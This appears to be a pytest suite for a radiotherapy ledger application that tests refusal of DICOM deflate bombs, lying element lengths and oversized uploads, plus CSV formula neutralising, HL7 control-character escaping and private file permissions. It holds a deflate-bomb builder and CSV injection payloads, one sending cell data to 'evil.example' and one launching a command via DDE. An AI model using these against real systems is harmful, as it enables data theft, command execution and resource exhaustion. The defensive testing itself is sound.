"""Issue 15, points 5 and 6: hostile files in, exports others open out.

In: a deflate bomb, an element that declares more than the file holds, a file of countless empty
items, an oversized upload or CLI input file: each is refused naming the file and the limit, with
nothing written and memory bounded (measured in a fresh process). Out: CSV cells a spreadsheet
would run as formulas are neutralised, HL7 text never carries a raw control character (MLLP's
framing bytes included), and everything written is its owner's only (0600 files, 0700 folders).
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from litestar.testing import TestClient
from pydicom.dataset import FileMetaDataset
from pydicom.filebase import DicomBytesIO
from pydicom.filewriter import write_file_meta_info
from pydicom.uid import DeflatedExplicitVRLittleEndian, ExplicitVRLittleEndian, RTPlanStorage

from adapters.dicom import BadFile
from adapters.dicom.plans import read_dataset
from adapters.files import DICOM_DATASET, DICOM_ELEMENTS, DICOM_FILE, MIB, TRIAGE_LIST
from adapters.http import create_app
from adapters.reports import incidents_csv, statement_csv
from adapters.runtime import Ledger
from ledger.accounts import add_account, hash_token
from ledger.service import Actor
from tests.conftest import CLOCK_START, ROOT, Clock, cli
from tools.dicom_samples import sample_plan, write_plan

HOME, PARTNER = "AZ-HOME", "PARTNER-RT"
SETUP = Actor("setup", "-")
UID = b"1.2.840.10008.5.1.4.1.1.481.5\0"  # RT Plan Storage, even length


# ---- hostile DICOM files ---------------------------------------------------------------------


def part10(syntax: str, body: bytes) -> bytes:
    """Preamble, file meta naming `syntax`, then `body` as it is."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = RTPlanStorage
    meta.MediaStorageSOPInstanceUID = "1.2.826.0.1.3680043.10.1.99"
    meta.TransferSyntaxUID = syntax
    buffer = DicomBytesIO()
    buffer.is_little_endian, buffer.is_implicit_VR = True, False
    write_file_meta_info(buffer, meta, enforce_standard=True)
    return b"\0" * 128 + b"DICM" + buffer.getvalue() + body


def element(group: int, elem: int, vr: bytes, value: bytes, declared: int | None = None) -> bytes:
    """Explicit VR little endian; `declared` overrides the length field (a lie)."""
    length = len(value) if declared is None else declared
    if vr in (b"OB", b"UN", b"SQ", b"UT"):
        return struct.pack("<HH2sHI", group, elem, vr, 0, length) + value
    return struct.pack("<HH2sH", group, elem, vr, length) + value


def deflate_bomb(path: Path, inflated_mib: int) -> Path:
    """A Deflated Explicit VR Little Endian RT Plan whose data set inflates to `inflated_mib` MiB
    (an OB element of zeros): ~1 KiB of deflate per MiB, so 1 GiB takes a 1 MiB file. Built from
    one repeated sync-flushed block, so that making it costs no time."""
    zeros = inflated_mib * MIB
    head = element(0x0008, 0x0016, b"UI", UID) + element(0x0009, 0x1010, b"OB", b"", declared=zeros)
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = deflater.compress(head) + deflater.flush(zlib.Z_SYNC_FLUSH)
    first = deflater.compress(bytes(MIB)) + deflater.flush(zlib.Z_SYNC_FLUSH)
    again = deflater.compress(bytes(MIB)) + deflater.flush(zlib.Z_SYNC_FLUSH)  # the same bytes every MiB from now
    body = start + first + again * (inflated_mib - 2) + deflater.compress(bytes(MIB)) + deflater.flush()
    path.write_bytes(part10(DeflatedExplicitVRLittleEndian, body))
    return path


PEAK_SCRIPT = """
import os, resource, sys
from pathlib import Path
from adapters.dicom.plans import read_dataset
# An address-space limit of what the process maps now + 1 GiB: a read that would inflate or
# allocate without bound fails here (MemoryError) instead of taking the shared machine's memory.
mapped = int(open("/proc/self/statm").read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
resource.setrlimit(resource.RLIMIT_AS, (mapped + 1024 ** 3, resource.RLIM_INFINITY))
try:
    read_dataset(Path(sys.argv[1]))
    print("read")
except Exception as exc:
    print(f"refused: {exc}")
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


def read_in_fresh_process(path: Path) -> tuple[str, int]:
    """(outcome, peak resident memory in MiB) of reading `path` in its own process."""
    proc = subprocess.run([sys.executable, "-c", PEAK_SCRIPT, str(path)], capture_output=True, text=True,
                          cwd=str(ROOT), env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)
    assert proc.returncode == 0, proc.stderr
    outcome, peak = proc.stdout.strip().rsplit("\n", 1)
    return outcome, int(peak)


def test_a_deflate_bomb_is_refused_with_its_limit_in_bounded_memory(tmp_path):
    bomb = deflate_bomb(tmp_path / "bomb.dcm", 1024)  # 1 MiB on disk, 1 GiB inflated
    assert bomb.stat().st_size < 1.2 * MIB
    outcome, peak = read_in_fresh_process(bomb)
    assert outcome.startswith("refused: too large: the deflated data set inflates past 64 MiB"), outcome
    baseline = read_in_fresh_process(write_plan(sample_plan(), tmp_path / "small.dcm"))
    assert baseline[0] == "read"
    # Inflating it whole took > 2 GiB (the inflated bytes and pydicom's copy of the element).
    assert peak - baseline[1] < 3 * DICOM_DATASET // MIB, (peak, baseline)


def test_a_deflated_plan_within_the_limits_is_still_read(tmp_path):
    plain = write_plan(sample_plan(arc=True, control_points=20), tmp_path / "plain.dcm")
    raw = plain.read_bytes()
    start = 132 + 12 + struct.unpack_from("<I", raw, 140)[0]  # after (0002,0000) and the group it counts
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    deflated = tmp_path / "deflated.dcm"
    deflated.write_bytes(part10(DeflatedExplicitVRLittleEndian, deflater.compress(raw[start:]) + deflater.flush()))
    ds = read_dataset(deflated)
    assert ds.RTPlanLabel == "Sample" and len(ds.BeamSequence[0].ControlPointSequence) == 20
    assert str(ds.file_meta.TransferSyntaxUID) == DeflatedExplicitVRLittleEndian


def test_a_deflated_file_cut_short_is_refused_as_truncated(tmp_path):
    bomb = deflate_bomb(tmp_path / "bomb.dcm", 4)
    cut = tmp_path / "cut.dcm"
    cut.write_bytes(bomb.read_bytes()[:-200])
    with pytest.raises(BadFile, match="truncated: the deflated data set ends before its deflate stream"):
        read_dataset(cut)


def test_an_element_declaring_more_than_the_file_holds_is_refused_before_it_is_allocated(tmp_path):
    liar = tmp_path / "liar.dcm"
    liar.write_bytes(part10(ExplicitVRLittleEndian, element(0x0008, 0x0016, b"UI", UID)
                            + element(0x0009, 0x1010, b"OB", b"\1" * 64, declared=0xFFFFFFF0)))
    with pytest.raises(BadFile, match=r"truncated: element \(0009,1010\) declares 4294967280 bytes but 64 are left"):
        read_dataset(liar)


def test_a_file_of_countless_empty_items_is_refused_by_its_element_count(tmp_path):
    items = struct.pack("<HHI", 0xFFFE, 0xE000, 0) * (DICOM_ELEMENTS + 10)
    sequence = element(0x0009, 0x1020, b"SQ", items + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0), declared=0xFFFFFFFF)
    many = tmp_path / "many.dcm"
    many.write_bytes(part10(ExplicitVRLittleEndian, element(0x0008, 0x0016, b"UI", UID) + sequence))
    assert many.stat().st_size < DICOM_FILE
    outcome, _ = read_in_fresh_process(many)
    assert outcome == (f"refused: too large: more than {DICOM_ELEMENTS} elements (the limit of a DICOM file here); "
                       "nothing was read")


def test_a_large_vmat_plan_costs_about_its_size_not_a_hundred_times(tmp_path):
    import tracemalloc

    plan = write_plan(sample_plan(groups=[(30, ["300"] * 4)], arc=True, control_points=180), tmp_path / "vmat.dcm")
    size = plan.stat().st_size
    tracemalloc.start()
    try:
        ds = read_dataset(plan)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(ds.BeamSequence) == 4 and len(ds.BeamSequence[3].ControlPointSequence) == 180
    assert peak < 12 * size, f"{peak} bytes traced reading a {size}-byte plan"  # was ~115x before


def test_the_cli_names_the_hostile_files_and_registers_nothing(tmp_path):
    db = tmp_path / "ledger.sqlite3"
    bomb = deflate_bomb(tmp_path / "bomb.dcm", 256)
    huge = tmp_path / "huge.dcm"
    with huge.open("wb") as f:  # sparse: the size is checked before a byte is read
        f.truncate(DICOM_FILE + 1)
    proc = cli("import", "plan", str(bomb), str(huge), "--centre", HOME, db=db)
    assert proc.returncode == 1
    assert "bomb.dcm" in proc.stdout and "inflates past 64 MiB" in proc.stdout
    assert "huge.dcm" in proc.stdout and "more than the 32 MiB accepted" in proc.stdout
    assert json.loads(cli("course", "list", "--json", db=db, check=True).stdout) == []


def test_the_listener_refuses_an_object_beyond_the_limit_unread(tmp_path):
    from adapters.dicom.listen import REFUSED, StorageSCP

    class Event:  # what pynetdicom hands the handler, reduced to what `store` reads
        def encoded_dataset(self):
            return b"\0" * (DICOM_FILE + 1)

    scp = StorageSCP(ledger=None, allow={"HOME-OIS": HOME})
    answer = {"sop_instance_uid": "1.2.3", "kind": "RT Plan"}
    reply = scp.store(Event(), "HOME-OIS", str(RTPlanStorage), answer)
    assert int(reply.Status) == REFUSED
    assert answer["error"].startswith(f"too large: {DICOM_FILE + 1} bytes, more than the 32 MiB")


# ---- other oversized input files -----------------------------------------------------------


def sparse(path: Path, size: int) -> Path:
    with path.open("wb") as f:
        f.truncate(size)
    return path


@pytest.mark.parametrize("args, limit", [
    (("import", "triage", "{f}"), "5 MiB"),
    (("bundle", "import", "{f}"), "256 MiB"),
    (("reconcile", "acknowledge", "{f}", "--by", "physicist"), "16 MiB"),
    (("centre", "add", "PARTNER-RT", "--public-key", "{f}"), "64 KiB"),
    (("export", "hl7", "--out", "{d}", "--codes", "{f}"), "1 MiB"),
])
def test_oversized_cli_input_files_are_refused_naming_the_file_and_the_limit(tmp_path, args, limit):
    units = {"5 MiB": 5 * MIB, "256 MiB": 256 * MIB, "16 MiB": 16 * MIB, "64 KiB": 64 * 1024, "1 MiB": MIB}
    big = sparse(tmp_path / "input.big", units[limit] + 1)
    db = tmp_path / "ledger.sqlite3"
    proc = cli(*[a.format(f=big, d=tmp_path / "out") for a in args], db=db)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert str(big) in proc.stderr and f"more than the {limit} accepted" in proc.stderr, proc.stderr
    assert not (tmp_path / "out").exists()


# ---- HTTP uploads ----------------------------------------------------------------------------

PHYS = "physicist.home"


@pytest.fixture
def api(tmp_path, monkeypatch):
    monkeypatch.setenv("FRACTION_LEDGER_READ_DB", str(tmp_path / "read.sqlite3"))
    with Ledger(str(tmp_path / "ledger.sqlite3"), clock=Clock()) as ledger:
        add_account(ledger.app, {"name": PHYS, "role": "physicist", "centre": HOME}, hash_token("tok-phys"), SETUP)
        with TestClient(create_app(ledger)) as client:
            client.ledger = ledger
            yield client


AUTH = {"Authorization": "Bearer tok-phys"}


def test_an_upload_beyond_its_routes_limit_is_413_with_the_limit_and_imports_nothing(api):
    body = [("files", ("triage.csv", b"patient_id,plan,triage,centre\n" + b"x" * (TRIAGE_LIST + 128 * 1024), "text/csv"))]
    r = api.post("/api/imports/triage", headers=AUTH, files=body)
    assert r.status_code == 413, r.text
    answer = r.json()
    assert answer["error"] == "too_large"
    assert answer["message"].startswith("The request is too large: this route accepts at most 5 MiB")
    assert answer["fields"][0]["field"] == "body"
    assert api.get("/api/courses", headers=AUTH).json() == []


def test_a_file_beyond_the_dicom_limit_within_an_upload_is_413_naming_it(api):
    plan = write_plan(sample_plan(), Path(api.ledger.storage.url).with_name("ok.dcm")).read_bytes()
    files = [("files", ("ok.dcm", plan, "application/dicom")),
             ("files", ("huge.dcm", b"\0" * (DICOM_FILE + 1), "application/dicom"))]
    r = api.post("/api/imports/plans", headers=AUTH, files=files)
    assert r.status_code == 413, r.text
    assert r.json()["fields"] == [{"field": "files", "reason": "huge.dcm is larger than 32 MiB, the limit of one "
                                                               "file; nothing was imported"}]
    assert api.get("/api/courses", headers=AUTH).json() == []


def test_each_upload_route_has_its_own_limit(api):
    from adapters.http.api_dicom import UPLOAD_LIMITS

    limits = {}
    for route in api.app.routes:
        for handler in getattr(route, "route_handlers", []):
            if "POST" in handler.http_methods and route.path.startswith(("/api/imports", "/api/reconcile",
                                                                          "/physicist/dicom", "/physicist/recovery")):
                limits[route.path] = handler.resolve_request_max_body_size()
    assert limits["/api/imports/triage"] == limits["/physicist/dicom/triage"] == UPLOAD_LIMITS["triage"]
    assert limits["/api/imports/plans"] == limits["/physicist/dicom/plans"] == 64 * MIB
    assert limits["/api/reconcile"] == limits["/physicist/recovery"] == UPLOAD_LIMITS["reconcile"]
    assert limits["/physicist/recovery/acknowledge"] == 16 * MIB
    assert all(limit is not None and limit <= 128 * MIB for limit in limits.values()), limits


@pytest.mark.parametrize("lang, words", [("en", "this page accepts at most 5 MiB"),
                                         ("nl", "deze pagina aanvaardt ten hoogste 5 MiB"),
                                         ("fr", "cette page accepte au plus 5 MiB")])
def test_the_413_page_says_it_in_the_readers_language(api, lang, words):
    import html
    import re

    page = api.get("/", headers={"Accept-Language": lang}).text
    csrf = re.search(r'name="_csrf_token" value="([^"]+)"', page).group(1)
    assert api.post("/", data={"token": "tok-phys", "_csrf_token": csrf}).status_code == 200
    big = [("files", ("triage.csv", b"patient_id,plan,triage,centre\n" + b"x" * TRIAGE_LIST, "text/csv"))]
    r = api.post("/physicist/dicom/triage", files=big, data={"_csrf_token": csrf},
                 headers={"Accept-Language": lang, "x-csrftoken": csrf})
    assert r.status_code == 413, r.text[:500]
    assert words in html.unescape(r.text)


# ---- CSV cells a spreadsheet would run --------------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB", "\rCR"]


def test_formula_cells_are_neutralised_and_numbers_left_alone():
    rows = [{"id": text, "description": text, "fraction": -3} for text in HOSTILE]
    rows.append({"id": "-12.50", "description": "plain", "fraction": 1})
    out = list(csv.DictReader(io.StringIO(incidents_csv([r | BLANK_INCIDENT for r in rows]))))
    assert [r["description"] for r in out[:-1]] == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert out[-1]["id"] == "-12.50" and out[0]["fraction"] == "-3"
    statement = {"lines": [{"course_id": "c", "patient_id": "=1+1", "billing_centre": "@X", "centre": "H",
                            "fractions": 1, "amount": "-10.00", "agreement": "+v1"}],
                 "balances": [], "totals": {"fractions": 1, "amount": "-10.00"}}
    line = next(csv.DictReader(io.StringIO(statement_csv(statement))))
    assert (line["patient_id"], line["billing_centre"], line["agreement"], line["amount"]) == (
        "'=1+1", "'@X", "'+v1", "-10.00")


BLANK_INCIDENT = {"follow_ups": [], "attempt": None}


def billing_scenario(db: Path, patient_id: str) -> str:
    def run(*args):
        return cli(*args, db=db, check=True).stdout

    run("billing", "agree", "--billing-centre", HOME, "--partner", PARTNER, "--rule", "pro-rata",
        "--course-amount", "2500", "--valid-from", "2026-01-01")
    course = json.loads(run("course", "register", "--patient-id", patient_id, "--patient-name", "MAES^LIES",
                            "--plan-uid", "1.2.3.30", "--plan-label", "Lung", "--fractions", "2",
                            "--home-centre", HOME, "--beam", "1=180", "--assign", PARTNER, "--json"))["id"]
    for number, centre in [(1, HOME), (2, PARTNER)]:
        run("fraction", "log", course, "--number", str(number), "--centre", centre, "--machine", "LINAC",
            "--operator", "rtt", "--at", f"2026-11-0{number + 1}T10:00+01:00")
    run("incident", "register", "--centre", PARTNER, "--course", course, "--fraction", "2", "--category", "other",
        "--severity", "low", "--description", HOSTILE[0], "--by", "rtt.partner")
    run("incident", "register", "--centre", PARTNER, "--course", course, "--fraction", "2", "--category", "other",
        "--severity", "low", "--description", "@SUM(A1:A9) shifted", "--by", "rtt.partner")
    run("course", "complete", course)
    return course


def test_incident_and_billing_csv_are_neutralised_on_the_cli_and_the_api(tmp_path, monkeypatch):
    db = tmp_path / "ledger.sqlite3"
    billing_scenario(db, "=2+5")
    today = CLOCK_START.date().isoformat()
    incidents_cli = cli("incident", "export", "--centre", HOME, "--csv", db=db, check=True).stdout
    statement_cli = cli("billing", "statement", "--from", today, "--to", today, "--csv", db=db, check=True).stdout

    monkeypatch.setenv("FRACTION_LEDGER_READ_DB", str(tmp_path / "ledger.read.sqlite3"))
    with Ledger(str(db)) as ledger:
        for name, role in (("fin", "finance"), ("phys", "physicist")):
            add_account(ledger.app, {"name": name, "role": role, "centre": HOME}, hash_token(f"tok-{name}"), SETUP)
        with TestClient(create_app(ledger)) as client:
            incidents_api = client.get(f"/api/incidents/export.csv?centre={HOME}",
                                       headers={"Authorization": "Bearer tok-phys"})
            statement_api = client.get(f"/api/billing/statement.csv?from={today}&to={today}",
                                       headers={"Authorization": "Bearer tok-fin"})
    assert incidents_api.status_code == statement_api.status_code == 200, (incidents_api.text, statement_api.text)
    for text in (incidents_cli, incidents_api.text):
        descriptions = sorted(r["description"] for r in csv.DictReader(io.StringIO(text)))
        assert descriptions == sorted(["'" + HOSTILE[0], "'@SUM(A1:A9) shifted"]), descriptions
    for text in (statement_cli, statement_api.text):
        lines = [r for r in csv.DictReader(io.StringIO(text)) if r["record"] == "line"]
        assert lines and {r["patient_id"] for r in lines} == {"'=2+5"}
        assert all(not r["amount"].startswith("'") for r in csv.DictReader(io.StringIO(text)))


# ---- HL7: no raw control character in any message --------------------------------------------

CONTROLS = "\x00\x0b\x1c\x1d\x1e\x7f\x85\r\n\t"


def test_control_characters_in_any_field_are_hex_escaped_and_every_message_still_parses(tmp_path, monkeypatch):
    from adapters.hl7.messages import MessageBuilder
    from tests.hl7_scenario import PHYSICIST, check_everywhere, deliver, register

    monkeypatch.setenv("FRACTION_LEDGER_READ_DB", str(tmp_path / "read.sqlite3"))
    with Ledger(str(tmp_path / "ledger.sqlite3"), clock=Clock()) as ledger:
        course_id = register(ledger.app, "P-CTL", "PEETERS^AN")
        deliver(ledger.app, course_id, 1, verify=False)
        ledger.app.void_fraction(course_id, 1, "logged twice", PHYSICIST.user, PHYSICIST)
        course = ledger.fresh().course(course_id)
    # As a log written before the edge checks, or a future field that forgets them, would hold it:
    course = course | {"patient_id": f"P{CONTROLS}1", "patient_name": f"PEE{CONTROLS}TERS^A{CONTROLS}N"}
    course["fractions"] = [f | {"machine": f"L{CONTROLS}1", "operator": f"rtt{CONTROLS}", "voided_by": f"ph{CONTROLS}",
                                "void_reason": f"twice{CONTROLS}"} for f in course["fractions"]]
    builder = MessageBuilder()
    at = CLOCK_START
    messages = [*builder.charges(course, may_hold=lambda _: True), builder.summary(course, at, b"%PDF-1.4\n\x00\x1c"),
                builder.purge(course, at)]
    assert [m.kind for m in messages] == ["DFT-CG", "DFT-CD", "MDM", "ADT"]
    for message in messages:
        raw = message.er7
        assert not any(c in raw for c in CONTROLS.replace("\r", "")), repr(raw)
        assert "\\X00\\" in raw and "\\X0B\\" in raw and "\\X1C\\" in raw
        assert all(segment[:3].isalnum() for segment in raw.rstrip("\r").split("\r")), repr(raw)
        parsed = check_everywhere(raw)
        assert parsed.unescape(str(parsed.segment("PID")[3][0][0])) == f"P{CONTROLS}1".replace("\x85", "\xc2\x85")


# ---- written files are the owner's only ------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_everything_the_cli_writes_is_0600_and_its_folders_0700(tmp_path):
    db, out = tmp_path / "ledger.sqlite3", tmp_path / "out"
    out.mkdir()
    env = {"FRACTION_LEDGER_DB": str(db)}

    def run(*args):
        return cli(*args, env=env, check=True).stdout

    old = os.umask(0o022)  # what a login shell gives the CLI
    try:
        run("demo")
        run("export", "hl7", "--out", str(out / "hl7"))
        run("export", "dicom", "--out", str(out / "dicom"))
        run("keygen-cipher", "--out", str(out / "ledger.key"))
        run("centre", "keygen", PARTNER, "--out", str(out / "partner.ed25519"))
        run("bundle", "export", "--centre", PARTNER, "--out", str(out / "partner.bundle"),
            "--key", str(out / "partner.ed25519"))
        run("reconcile", "--ois", str(out / "dicom"), "--report", str(out / "report.html"), "--export", str(out / "set"))
    finally:
        os.umask(old)
    written = [p for p in [db, db.with_name("ledger.read.sqlite3"), *out.rglob("*")]]
    files = [p for p in written if p.is_file()]
    folders = [p for p in written if p.is_dir()]
    assert len(files) > 60 and {p.suffix for p in files} >= {".hl7", ".dcm", ".key", ".html", ".json", ".sqlite3",
                                                             ".ed25519", ".pub", ".bundle"}
    assert {str(p.relative_to(tmp_path)): oct(mode(p)) for p in files if mode(p) != 0o600} == {}
    assert {str(p.relative_to(tmp_path)): oct(mode(p)) for p in folders if mode(p) != 0o700} == {}


def test_the_library_writes_private_files_whatever_the_umask(tmp_path, monkeypatch):
    """The adapters used without the CLI (tests, a script): the database, read model, session
    folder and exports are private by themselves, not only thanks to the CLI's umask."""
    from adapters.dicom.export import export_all

    old = os.umask(0o022)
    try:
        monkeypatch.setenv("FRACTION_LEDGER_READ_DB", str(tmp_path / "read.sqlite3"))
        with Ledger(str(tmp_path / "ledger.sqlite3"), clock=Clock()) as ledger:
            from tests.hl7_scenario import deliver, register

            deliver(ledger.app, register(ledger.app, "P-MODE", "PEETERS^AN"), 1)
            exported = list(export_all(ledger.app, ledger.fresh(), tmp_path / "export"))
            create_app(ledger, session_dir=tmp_path / "sessions")
        assert exported
        for path in (tmp_path / "ledger.sqlite3", tmp_path / "read.sqlite3", *(tmp_path / "export").rglob("*.dcm")):
            assert mode(path) == 0o600, (path, oct(mode(path)))
        for path in (tmp_path / "export", tmp_path / "sessions", *(p for p in (tmp_path / "export").iterdir())):
            assert mode(path) == 0o700, (path, oct(mode(path)))
        wal = [p for p in tmp_path.glob("*-wal")] + [p for p in tmp_path.glob("*-shm")]
        assert all(mode(p) == 0o600 for p in wal), {str(p): oct(mode(p)) for p in wal}
    finally:
        os.umask(old)
